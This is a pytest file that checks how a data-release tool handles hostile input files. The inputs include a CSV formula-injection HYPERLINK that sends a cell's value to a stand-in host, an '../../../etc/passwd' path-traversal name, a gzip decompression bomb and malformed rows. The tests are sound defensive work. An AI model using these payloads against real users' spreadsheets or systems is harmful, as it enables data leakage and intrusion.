"""Hostile files are refused in one sentence, and ours are for their owner alone."""

from __future__ import annotations

import csv
import gzip
import resource
import stat
from pathlib import Path

import pytest

from support.command import beside_no_check, invoke
from support.release_documents import write_visits
from undertow.errors import UndertowError
from undertow.release import load
from undertow.release.source._file import Limits, open_file

PEOPLE = [f"p{k},A" for k in range(2000)]


def written(folder, rows, name="=by zone"):
    return write_visits(
        folder,
        rows,
        promise={"granularity": "user", "epsilon": "1", "delta": "1e-6"},
        query={"name": name, "keys": "discover"},
    )


@pytest.fixture
def folder(tmp_path):
    written(tmp_path, PEOPLE)
    return tmp_path


def modes(folder):
    return {
        str(path.relative_to(folder)): stat.S_IMODE(path.stat().st_mode)
        for path in folder.rglob("*")
        if path.name not in ("visits.csv", "visits.toml")
    }


def test_all_files_are_for_their_owner_alone_whatever_the_umask(folder, runs):
    words = ("release", "run", "visits.toml", "--report", "report.html")
    killed = runs.run(*words, folder=folder, umask=0, at="/_folder._take_names")
    assert killed.status == -9
    found = modes(folder)
    assert {"visits.ledger", "visits.ledger-wal", "visits.ledger-shm"} <= set(found)
    assert any(name.endswith(".part") for name in found)
    assert found.pop("release") == 0o700
    assert set(found.values()) == {0o600}, found
    assert runs.run(*words, folder=folder, umask=0).status == 0
    found = modes(folder)
    assert {"visits.ledger", "release/manifest.json", "report.html"} <= set(found)
    assert found.pop("release") == 0o700
    assert set(found.values()) == {0o600}, found


def test_formulas_in_the_table_are_disarmed_in_the_answers(folder):
    formula = '=HYPERLINK(""http://x/""&A1)'
    load(written(folder, [f'p{k},"{formula}"' for k in range(2000)])).run()
    with (folder / "release" / "01-by-zone.csv").open(newline="") as file:
        _, row = csv.reader(file)
    assert row[0] == "'" + formula.replace('""', '"')


ZONES = {
    "latin-1": "Zürich".encode("latin-1"),
    "utf-16": "Zürich".encode("utf-16"),
    "broken": b"\xc3\x28\xa0\xa1\xff\xfe",
    "half": b"\xed\xa0\x80",
}


@pytest.mark.parametrize("name", ZONES)
def test_a_cell_in_another_encoding_is_missing(folder, name):
    body = b"".join(b"p%d,%s\n" % (k, ZONES[name]) for k in range(300))
    (folder / "visits.csv").write_bytes(b"person,zone\n" + body)
    done = invoke("release", "run", folder / "visits.toml")
    assert done.exit_code == 0, done.stderr
    with (folder / "release" / "01-by-zone.csv").open(newline="") as file:
        assert len(list(csv.reader(file))) == 1


def test_names_in_another_encoding_are_one_sentence(folder):
    (folder / "visits.csv").write_bytes(b"person,z\xf6ne\np1,A\n")
    done = invoke("release", "run", folder / "visits.toml")
    assert done.exit_code == 2, done.stdout
    assert done.stderr.count("\n") == 1
    assert "must name its columns, in UTF-8" in done.stderr


@pytest.mark.parametrize("name", ["utf-16", "utf-32"])
def test_a_whole_file_in_another_encoding_is_one_sentence(folder, name):
    text = (folder / "visits.csv").read_text()
    (folder / "visits.csv").write_bytes(text.encode(name))
    done = invoke("release", "run", folder / "visits.toml")
    assert done.exit_code == 2, done.stdout
    assert done.stderr.count("\n") == 1


def test_a_cell_of_ten_megabytes_and_ragged_rows_change_no_other(folder):
    with (folder / "visits.csv").open("a") as file:
        file.write("long," + "x" * 10_000_000 + "\n")
        file.write('"never closed,B\np9,A,B,C,D\np10,\n')
    done = invoke("release", "run", folder / "visits.toml")
    assert done.exit_code == 0, done.stderr
    assert "xxxx" not in done.stdout + done.stderr
    with (folder / "release" / "01-by-zone.csv").open(newline="") as file:
        [_, [zone, number, *_]] = csv.reader(file)
    assert zone == "A"
    assert abs(int(number) - 2000) < 200


HOSTILE = {
    "a line feed in quotes": b'p,"A\nB"\r\n',
    "a long cell": b"p," + b"x" * 2_100_000 + b"\r\n",
    "a separator": b"p,\x1f\r\n",
    "another encoding": "p,Zürich\r\n".encode("latin-1"),
    "more cells": b"p,A,B,C\r\n",
    "fewer cells": b"p\r\n",
    "an open quote": b'p,"A\r\n',
    "a quote too many": b'p,"A"B"\r\n',
    "nothing": b"\0\r\n",
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("first", [True, False])
def test_no_row_changes_how_a_run_ends(tmp_path, name, first):
    folder = tmp_path / "with"
    folder.mkdir()
    written(folder, [])
    plain = b"".join(b"p%d,A\r\n" % k for k in range(400))
    row = HOSTILE[name]
    rows = row + plain if first else plain + row
    (folder / "visits.csv").write_bytes(b"person,zone\r\n" + rows)
    done = invoke("release", "run", folder / "visits.toml")
    assert (done.exit_code, beside_no_check(done.stderr)) == (0, "")
    with (folder / "release" / "01-by-zone.csv").open(newline="") as file:
        [_, [zone, number, *_]] = csv.reader(file)
    assert zone == "A"
    assert abs(int(number) - 400) < 150


def test_a_file_that_unpacks_to_far_more_needs_neither_memory_nor_disk(tmp_path):
    bomb = tmp_path / "visits.csv.gz"
    with gzip.open(bomb, "wb") as file:
        file.write(b"person,zone\n1,A\n2,")
        for _ in range(50):
            file.write(b"\0" * 10**6)
    assert bomb.stat().st_size < 500_000
    limits = Limits(memory_mb=500)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with open_file(bomb.name, None, root=tmp_path, form=None, limits=limits) as source:
        found = source.execute(source.table).to_pylist()
        [[spill]] = (
            source.table.get_backend()
            .raw_sql("SELECT current_setting('temp_directory')")
            .fetchall()
        )
        sizes = [path.stat().st_size for path in Path(spill).iterdir()]
    nobody = {"person": None, "zone": None}
    assert sorted(found, key=str) == [{"person": "1", "zone": "A"}, nobody]
    assert sum(sizes) < 100
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert after - before < 300_000  # kilobytes


@pytest.mark.parametrize("content", [b"", b"\x1f\x8b", b"\x1f\x8b\x08" + b"\0" * 40])
def test_a_packed_file_that_is_none_is_one_sentence(tmp_path, content):
    (tmp_path / "visits.csv.gz").write_bytes(content)
    with pytest.raises(UndertowError) as caught:
        open_file("visits.csv.gz", None, root=tmp_path, form=None, limits=Limits(500))
    assert "\n" not in str(caught.value)


def test_a_name_with_dots_and_slashes_stays_in_the_folder(folder):
    done = load(written(folder, PEOPLE, "../../../etc/passwd")).run()
    assert sorted(done.files) == ["01-etc-passwd.csv", "manifest.json"]
    assert done.folder == folder / "release"


@pytest.mark.parametrize("sign", "＝＋－＠﹦−")
def test_signs_of_another_width_are_disarmed_in_the_answers(folder, runs, sign):
    written(folder, [f"p{k},{sign}HYPERLINK(A1)" for k in range(2000)], "wide")
    assert runs.run("release", "run", "visits.toml", folder=folder).status == 0
    with (folder / "release" / "01-wide.csv").open(newline="") as file:
        _, row = csv.reader(file)
    assert row[0] == f"'{sign}HYPERLINK(A1)"


def test_a_circle_of_links_is_no_table(folder, runs):
    (folder / "visits.csv").unlink()
    (folder / "visits.csv").symlink_to("visits.csv")
    done = runs.run("release", "run", "visits.toml", folder=folder)
    assert (done.status, done.output) == (2, "")
    assert done.error.splitlines() == [
        "table must name a file, got 'visits.csv', a link to nothing."
    ]


@pytest.mark.parametrize("kind", ["int", "float"])
@pytest.mark.parametrize("high", ["1e-12", "1e-29", "1e-300"])
@pytest.mark.parametrize("select", ["sum", "mean", "variance", "quantile"])
def test_ends_that_are_close_together_give_an_answer_or_one_sentence(
    tmp_path, runs, kind, high, select
):
    write_visits(
        tmp_path,
        ["1,0", "2,3"],
        columns="person,minutes",
        source={"types": {"minutes": kind}},
        queries=[
            {
                "name": "narrow",
                "select": select,
                "column": "minutes",
                "low": 0,
                "high": high,
            }
        ],
    )
    done = runs.run("release", "run", "visits.toml", folder=tmp_path)
    if high == "1e-300":
        assert done.status == 2
        assert done.error.startswith("queries[0].high must be above low by at least 2^")
        assert len(done.error.splitlines()) == 1
    else:
        assert (done.status, beside_no_check(done.error)) == (0, "")


def test_a_release_file_that_was_changed_writes_nothing_in_its_folder(folder, runs):
    assert runs.run("release", "run", "visits.toml", folder=folder).status == 0
    before = {p.name: p.read_bytes() for p in (folder / "release").iterdir()}
    written(folder, PEOPLE, "another name")
    words = ("ledger", "show", "visits.ledger", "--json")
    account = runs.run(*words, folder=folder).output
    done = runs.run("release", "run", "visits.toml", "--repeat", "2", folder=folder)
    assert done.status == 3
    assert len(done.error.splitlines()) == 1
    assert {p.name: p.read_bytes() for p in (folder / "release").iterdir()} == before
    assert runs.run(*words, folder=folder).output == account
